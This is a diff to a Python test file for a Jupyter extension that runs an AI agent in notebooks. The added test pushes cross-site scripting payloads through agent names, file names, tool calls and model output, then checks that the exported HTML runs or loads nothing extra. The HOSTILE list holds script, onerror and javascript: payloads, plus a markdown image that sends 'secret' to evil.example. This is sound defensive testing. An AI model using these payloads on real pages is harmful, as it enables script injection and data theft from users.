@@ -6,6 +6,8 @@ import secrets
 import string
 import sys
 from base64 import b64encode, urlsafe_b64encode
+from collections import Counter
+from html.parser import HTMLParser
 
 import duckdb
 import nbformat
@@ -14,6 +16,7 @@ from jupyter_client import AsyncKernelManager
 from jupyter_client.kernelspec import KernelSpec
 from kernel.conftest import DEADLINE, ROOT
 from nbclient import NotebookClient
+from nbconvert import HTMLExporter
 from stub_model import Say
 
 LETTERS = string.ascii_letters + string.digits
@@ -180,3 +183,64 @@ def test_g5_a_saved_notebook_has_no_path_no_environment_no_key_and_no_system_pro
     assert PROMPT in asked
     for what in (PROMPT, "<skill", str(tmp_path), str(ROOT), *environment.values()):
         assert what not in text, what
+
+
+HOSTILE = [
+    "<img src=https://evil.example/x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    "<svg onload=alert(1)></svg><iframe src=//evil.example></iframe><style>*{display:none}</style>",
+    "<form action=https://evil.example><input></form>",
+    "[a](javascript:alert(1)) ![b](https://evil.example/?q=secret) [c](data:text/html,x)",
+    r"$\href{javascript:alert(1)}{d}$ $$\text{<img src=x onerror=alert(1)>}$$",
+]
+
+
+class Loads(HTMLParser):
+    """What would run, load or lead away in the outputs of a page."""
+
+    def __init__(self, page):
+        super().__init__()
+        self.found, self.literal = [], 0
+        self.feed(page)
+
+    def handle_starttag(self, tag, attrs):
+        if tag in {"img", "script", "svg", "iframe", "style", "form", "input", "object", "embed", "link", "meta"}:
+            self.found.append(tag)
+        self.found += [name for name, value in attrs if name.startswith("on") or (value or "").startswith("javascript")]
+        self.literal += "tex2jax_ignore" in dict(attrs).get("class", "")
+
+
+def test_g1_g2_a_notebook_as_html_runs_and_loads_no_more_than_one_without_html(tmp_path, stub_model):
+    (tmp_path / ".ipython").mkdir()
+    (tmp_path / "skills").mkdir()
+    (tmp_path / "skills" / "<img src=x onerror=alert(1)>.md").write_text("Do.")
+    everything = "\n\n".join(HOSTILE)
+    stub_model.says(
+        Say(call=(HOSTILE[0], {"a": everything}), reasoning=everything),
+        Say(call=("create_file", {"path": HOSTILE[0], "content": everything})),
+        Say(call=("run_python", {"code": f"print({everything!r})"})),
+        everything,
+    )
+    cells = [
+        '%load_ext piano_jupyter\n%config PianoConfig.rules = ["allow run_python"]',
+        "%piano agent Assistant --tools run_python,create_file --description '<script>alert(1)</script>'",
+        f"%piano thread --new {HOSTILE[1]}",
+        f"%%piano\n{everything}",
+        *("%piano panel", "%piano history", "%piano threads", "%piano skills", "%piano events", "%piano queue"),
+        *("%piano agents", "%piano search evil", "%piano sql FROM messages", "%piano sql FROM tool_calls"),
+    ]
+
+    notebook = executed(tmp_path, stub_model, cells, environment={})
+    export = HTMLExporter()
+    for cell in notebook.cells:
+        cell.outputs = [each for each in cell.outputs if each.get("data", "text")]  # the live output ends empty
+    html = export.from_notebook_node(notebook)[0]
+    page = Loads(html)
+    for cell in notebook.cells:
+        for output in cell.outputs:  # the panel itself stays: its own scripts load it
+            output.get("data", {}).pop("text/html", None)
+    without = Loads(export.from_notebook_node(notebook)[0])
+
+    assert page.literal > 8
+    assert HOSTILE[1] not in html
+    assert Counter(page.found) == Counter(without.found)
